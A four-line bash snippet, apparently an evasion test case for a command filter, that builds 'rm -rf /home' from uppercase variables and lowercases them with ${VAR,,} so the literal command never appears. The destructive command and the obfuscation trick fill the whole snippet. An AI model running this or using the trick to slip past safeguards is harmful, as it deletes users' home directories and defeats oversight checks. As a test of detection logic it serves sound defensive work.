# tricky: letters turned to small ones
C="RM -RF"
T="/HOME"
${C,,} "${T,,}"
